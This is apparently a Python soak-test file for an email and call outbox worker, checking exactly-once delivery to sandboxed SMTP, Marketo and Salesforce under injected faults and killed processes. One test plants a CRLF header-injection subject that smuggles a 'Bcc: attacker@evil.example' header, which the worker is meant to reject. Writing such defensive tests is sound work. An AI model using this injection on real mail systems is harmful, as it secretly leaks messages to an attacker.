"""Acceptance: 300 emails (50 to unsubscribed people) and 300 calls, 20 % injected faults including
commit-then-drop, the worker (a real `sia-tui --headless worker` process) killed with SIGKILL at 5 random moments,
then run to the end. Every allowed item is exactly once in the SMTP sink, in Marketo and in Salesforce; the 50
blocked ones are nowhere; the ledger explains each.

And a poison item (a subject that cannot be built, as a synced name with CR/LF made) among 200 good emails, under
the same faults: the 200 go out exactly once, the poison one is dead-lettered with its reason, and the worker's
Marketo calls stay bounded (it does not loop on the bad item; idle once the rest is done).
"""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from sia_sandbox.config import FAULT_KINDS
from sia_sandbox.server import RunningSandbox, start_sandbox
from sia_tui.compliance.ledger import ledger_entries
from sia_tui.outbox import queue as q
from sia_tui.outbox.compose import EmailDraft, prepare_call, prepare_email, seller_from_settings
from sia_tui.outbox.model import now_utc
from sia_tui.store.db import open_db
from tests.conftest import sandbox_config
from tests.support.outbox_env import (
    fetch_people,
    marketo_activities,
    open_cache,
    reachable,
    salesforce_tasks,
    sandbox_env,
    set_faults,
    settings_for,
    sink_messages,
)
from tests.support.reliability import seeded_rng

EMAILS, BLOCKED, CALLS, KILLS = 300, 50, 300, 5
#: Smaller batches than the APIs allow, so the run makes enough requests for 20 % faults to bite many times.
BATCH = 10
#: Every kind the sandbox has; commit-then-drop weighted up, as it is the one exactly-once is really about.
KINDS = [*FAULT_KINDS, *["commit_drop"] * 4]
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def running() -> Iterator[RunningSandbox]:
    config = sandbox_config(
        people=1000, now=None, rate_limit_calls=100_000, daily_quota=10_000_000, sf_daily_limit=10_000_000,
        slow_fault_s=0.05, latency_ms=40,
    )  # fmt: skip
    with start_sandbox(config) as sandbox:
        yield sandbox


#: The send rate is the subject of its own tests; here it would only stretch the run (250 emails).
NO_THROTTLE = {"SIA_THROTTLE_EMAILS_PER_WINDOW": "0", "SIA_THROTTLE_EMAILS_PER_DAY": "0"}


def _worker(env: dict[str, str], base_url: str, log: Path) -> subprocess.Popen[bytes]:
    args = [
        sys.executable, "-m", "sia_tui", "--headless", "worker", "--poll-s", "0.2", "--retry-base-s", "0.1",
        "--retry-cap-s", "1", "--reconcile-delay-s", "0", "--hold-s", "0.1", "--max-attempts", "100",
        "--sandbox-mail-url", base_url, "--batch-size", str(BATCH),
    ]  # fmt: skip
    with open(log, "ab") as out:
        return subprocess.Popen(args, env={**os.environ, **env}, cwd=ROOT, stdout=out, stderr=out)


def _open_items(db_path: Path) -> int:
    db = open_db(db_path)
    try:
        return q.open_count(db)
    finally:
        db.conn.close()


@pytest.mark.soak
def test_exactly_once_under_faults_and_sigkill(running: RunningSandbox, tmp_path: Path) -> None:
    rng = seeded_rng()
    env = sandbox_env(running, tmp_path / "home", **NO_THROTTLE)
    settings = settings_for(env)
    people = asyncio.run(fetch_people(running, 1000))
    db = open_cache(settings, people)
    flagged_emails = {p["email"].lower() for p in people if p["email"] and not reachable(p)}
    allowed_people = [p for p in people if reachable(p) and p["email"].lower() not in flagged_emails]
    unsubscribed = [p for p in people if p["unsubscribed"] and p["email"]]
    assert len(allowed_people) >= EMAILS - BLOCKED and len(unsubscribed) >= BLOCKED
    seller = seller_from_settings(settings)
    since = now_utc() - timedelta(minutes=5)

    email_people = rng.sample(allowed_people, EMAILS - BLOCKED) + rng.sample(unsubscribed, BLOCKED)
    rng.shuffle(email_people)
    emails = [
        q.enqueue_email(
            db,
            prepare_email(db, p["marketo_id"], subject="Quick question, {{first_name | default: \"there\"}}",
                          body="Hi {{first_name | default: \"there\"}},\n\nShall we talk about {{company_friendly}}?",
                          seller=seller),
        )
        for p in email_people
    ]  # fmt: skip
    call_people = [rng.choice(people) for _ in range(CALLS)]
    calls = [
        q.enqueue_call(
            db,
            prepare_call(db, p["marketo_id"], outcome=rng.choice(settings.get("calls.outcomes")), seller=seller,
                         outcomes=settings.get("calls.outcomes"), reasons=settings.get("calls.reasons"),
                         duration_s=rng.randrange(0, 900), notes=f"call {i}"),
        )
        for i, p in enumerate(call_people)
    ]  # fmt: skip
    db.conn.close()
    blocked_ids = {e.id for e, p in zip(emails, email_people, strict=True) if p["unsubscribed"]}

    set_faults(running, 0.2, KINDS, slow_s=0.05)
    log = tmp_path / "worker.log"
    started = time.monotonic()
    for _ in range(KILLS):
        proc = _worker(env, running.base_url, log)
        time.sleep(rng.uniform(1.0, 3.0))
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    proc = _worker(env, running.base_url, log)
    try:
        deadline = time.monotonic() + 90
        while _open_items(settings.db_path) and time.monotonic() < deadline:
            assert proc.poll() is None, log.read_text(errors="replace")[-3000:]
            time.sleep(0.3)
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
    set_faults(running, 0.0)
    elapsed = time.monotonic() - started
    stats = httpx.get(f"{running.base_url}/_sandbox/stats").json()

    db = open_db(settings.db_path)
    items = {i.id: i for i in q.list_items(db, limit=None)}
    assert q.open_count(db) == 0, (q.counts(db), log.read_text(errors="replace")[-3000:])
    assert stats["faults"].get("commit_drop", 0) > 0

    mail = sink_messages(running)
    activities = asyncio.run(
        marketo_activities(running, [p["marketo_id"] for p in email_people + call_people], since)
    )
    who = [p["sfdc_contact_id"] or p["sfdc_lead_id"] for p in email_people + call_people]
    # People without a Salesforce id are matched by email address (issue 12.13): their Task's WhoId is the match.
    matched = [
        str((items[i.id].destinations["salesforce"].request or {}).get("WhoId") or "")
        for i in emails + calls
        if items[i.id].destinations["salesforce"].state == "done"
    ]
    tasks = asyncio.run(salesforce_tasks(running, [w for w in [*who, *matched] if w]))

    people_by_id = {p["marketo_id"]: p for p in people}
    for item in emails + calls:
        final = items[item.id]
        person = people_by_id[item.marketo_id]
        has_sf = bool(person["sfdc_contact_id"] or person["sfdc_lead_id"])
        entries = ledger_entries(db, item_id=item.id, limit=None)
        if item.id in blocked_ids:
            assert final.state == "blocked", final.to_json()
            assert item.id not in mail and item.id not in activities and item.id not in tasks
            assert [e["decision"] for e in entries if e["decision"] != "held"] == ["blocked"]
            assert "unsubscribed" in entries[0]["reason"] and entries[0]["source"] == "Marketo live check"
            continue
        assert final.state == "done", final.to_json()
        if item.kind == "email":
            assert len(mail.get(item.id, [])) == 1, item.id
            assert {e["decision"] for e in entries} <= {"allowed", "held"} and entries[0][
                "decision"
            ] == "allowed"
        assert len(activities.get(item.id, [])) == 1, item.id
        logged = final.destinations["salesforce"].state
        if has_sf:
            assert logged == "done" and len(tasks.get(item.id, [])) == 1, item.id
        else:  # found by email address, or skipped with the reason when Salesforce has nobody with it
            assert logged in {"done", "skipped"}, final.to_json()
            assert len(tasks.get(item.id, [])) == (1 if logged == "done" else 0), item.id
    interrupted = sum(
        int(line.split()[1])
        for line in log.read_text(errors="replace").splitlines()
        if line.startswith("settling ")
    )
    print(
        f"\nreliability: {len(emails)} emails ({len(blocked_ids)} blocked), {len(calls)} calls, {KILLS} SIGKILLs "
        f"({interrupted} writes cut mid-flight), "
        f"faults {stats['faults']}, {elapsed:.1f} s"
    )


POISON_GOOD = 200


def _marketo_calls(running: RunningSandbox) -> int:
    return int(httpx.get(f"{running.base_url}/_sandbox/stats", timeout=30).json()["totals"].get("marketo", 0))


@pytest.mark.soak
def test_a_poison_item_among_200_is_dead_lettered_and_the_rest_go_once(running: RunningSandbox, tmp_path: Path) -> None:
    rng = seeded_rng()
    env = sandbox_env(running, tmp_path / "home", **NO_THROTTLE)
    settings = settings_for(env)
    people = asyncio.run(fetch_people(running, 1000))
    db = open_cache(settings, people)
    flagged_emails = {p["email"].lower() for p in people if p["email"] and not reachable(p)}
    allowed = [p for p in people if reachable(p) and p["email"].lower() not in flagged_emails]
    seller = seller_from_settings(settings)
    good_people = rng.sample(allowed, POISON_GOOD)
    body = "Hi {{first_name | default: \"there\"}},\n\nShall we talk?"
    good = [
        q.enqueue_email(db, prepare_email(db, p["marketo_id"], subject="Hello", body=body, seller=seller))
        for p in good_people[: POISON_GOOD // 2]
    ]
    template = prepare_email(db, good_people[0]["marketo_id"], subject="Hello", body=body, seller=seller)
    poison = q.enqueue_email(
        db,
        EmailDraft(
            person=template.person, seller=template.seller, to=template.to, cc=(), bcc=(),
            subject="Hello Eve\r\nBcc: attacker@evil.example", body="Hi", template=None, record_only=False,
        ),
    )  # fmt: skip
    good += [
        q.enqueue_email(db, prepare_email(db, p["marketo_id"], subject="Hello", body=body, seller=seller))
        for p in good_people[POISON_GOOD // 2 :]
    ]
    db.conn.close()

    set_faults(running, 0.2, KINDS, slow_s=0.05)
    log = tmp_path / "worker.log"
    calls_before = _marketo_calls(running)
    started = time.monotonic()
    for _ in range(2):
        proc = _worker(env, running.base_url, log)
        time.sleep(rng.uniform(1.0, 2.0))
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    proc = _worker(env, running.base_url, log)
    try:
        deadline = time.monotonic() + 90
        while _open_items(settings.db_path) and time.monotonic() < deadline:
            assert proc.poll() is None, log.read_text(errors="replace")[-3000:]
            time.sleep(0.3)
        elapsed = time.monotonic() - started
        busy_calls = _marketo_calls(running) - calls_before
        set_faults(running, 0.0)
        # Everything left is the dead poison item: the worker (polling every 0.2 s) must now leave Marketo alone.
        idle_from = _marketo_calls(running)
        time.sleep(3.0)
        idle_calls = _marketo_calls(running) - idle_from
        assert proc.poll() is None, log.read_text(errors="replace")[-3000:]
    finally:
        set_faults(running, 0.0)
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)

    db = open_db(settings.db_path)
    assert q.open_count(db) == 0, (q.counts(db), log.read_text(errors="replace")[-3000:])
    mail = sink_messages(running)
    for item in good:
        assert len(mail.get(item.id, [])) == 1, item.id
        assert q.get_item(db, item.id).state == "done"
    dead = q.get_item(db, poison.id)
    assert poison.id not in mail and dead.state == "dead"
    assert "cannot be built" in dead.destinations["smtp"].reason and "linefeed" in dead.destinations["smtp"].reason
    # Bounded: the 200 need about 2 x 20 batch calls (checks and activities, batches of 10) plus what 20 %
    # faults cost in retries and look-ups; a worker that looped on the bad item made ~5 calls a second forever.
    assert busy_calls <= 6 * (2 * POISON_GOOD // BATCH), busy_calls
    assert idle_calls == 0, idle_calls
    print(
        f"reliability (poison): {POISON_GOOD} good emails + 1 poison, 2 SIGKILLs, {busy_calls} Marketo calls in "
        f"{elapsed:.1f} s, {idle_calls} while idle"
    )
